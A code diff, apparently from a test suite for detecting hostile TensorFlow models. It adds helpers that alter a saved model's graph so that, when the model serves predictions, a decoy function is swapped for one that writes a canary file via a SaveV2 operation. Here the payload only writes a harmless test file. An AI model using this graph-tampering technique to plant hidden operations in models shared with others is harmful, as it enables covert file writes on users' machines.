@@ -47,6 +47,74 @@ def change_file(folder: Path, change: Change) -> None:
     path.write_bytes(model.SerializeToString())
 
 
+def run_saver_in_place_of(canary: Path) -> Change:
+    """A harmless function is called; TensorFlow runs the one that the saver names, which writes a file, in its place."""
+
+    def change(model: Any) -> None:
+        graph = model.meta_graphs[0]
+        functions = graph.graph_def.library.function
+        [serve] = [one for one in functions if one.signature.name.startswith("__inference_serve")]
+        for name, device in (("__inference_good_9001", b"GPU"), ("__inference_evil_9002", b"CPU")):
+            function = functions.add()
+            _pass_on(function, name=name)
+            function.attr["api_implements"].s, function.attr["api_preferred_device"].s = b"api", device
+        _write(functions[-1], canary)
+        _call(serve, "__inference_good_9001")
+        [saved] = [node for node in graph.graph_def.node if f"{node.name}:0" == graph.saver_def.save_tensor_name]
+        [old] = [one for one in functions if one.signature.name == saved.attr["f"].func.name]
+        functions.remove(old)
+        saved.attr["f"].func.name = "__inference_evil_9002"
+
+    return change
+
+
+def _pass_on(function: Any, *, name: str) -> None:
+    """Make it a function of one text, which it gives back."""
+    import tensorflow as tf
+
+    function.signature.name, function.signature.is_stateful = name, True
+    function.signature.input_arg.add(name="path", type=tf.string.as_datatype_enum)
+    function.signature.output_arg.add(name="out", type=tf.string.as_datatype_enum)
+    node = function.node_def.add(name="Identity", op="Identity", input=["path"])
+    node.attr["T"].type = tf.string.as_datatype_enum
+    function.ret["out"] = "Identity:output:0"
+
+
+def _add_text(function: Any, name: str, text: Any) -> str:
+    """A constant of a function; returns the name of its value."""
+    import tensorflow as tf
+
+    node = function.node_def.add(name=name, op="Const")
+    node.attr["dtype"].type = tf.string.as_datatype_enum
+    node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text, tf.string))
+    return f"{name}:output:0"
+
+
+def _write(function: Any, canary: Path) -> None:
+    import tensorflow as tf
+
+    texts = {"file": str(canary), "names": ["x"], "slices": [""], "values": ["written"]}
+    inputs = [_add_text(function, name, text) for name, text in texts.items()]
+    node = function.node_def.add(name="Save", op="SaveV2", input=inputs)
+    node.attr["dtypes"].list.type.append(tf.string.as_datatype_enum)
+    function.node_def[0].input.append("^Save")
+    function.signature.control_output.append("Save")
+    function.control_ret["Save"] = "Save"
+
+
+def _call(function: Any, name: str) -> None:
+    """Have a function call another one before it computes probabilities."""
+    import tensorflow as tf
+
+    node = function.node_def.add(name="call", op="StatefulPartitionedCall", input=[_add_text(function, "text", "a")])
+    for types in (node.attr["Tin"], node.attr["Tout"]):
+        types.list.type.append(tf.string.as_datatype_enum)
+    node.attr["f"].func.name = name
+    for softmax in function.node_def:
+        if softmax.op == "Softmax":
+            softmax.input.append("^call")
+
+
 def hostile_graphs(canary: Path) -> dict[str, tuple[str, Callable[[Any], Any]]]:
     """Name -> the operation that is to be named, and what the graph does beside classifying.
 
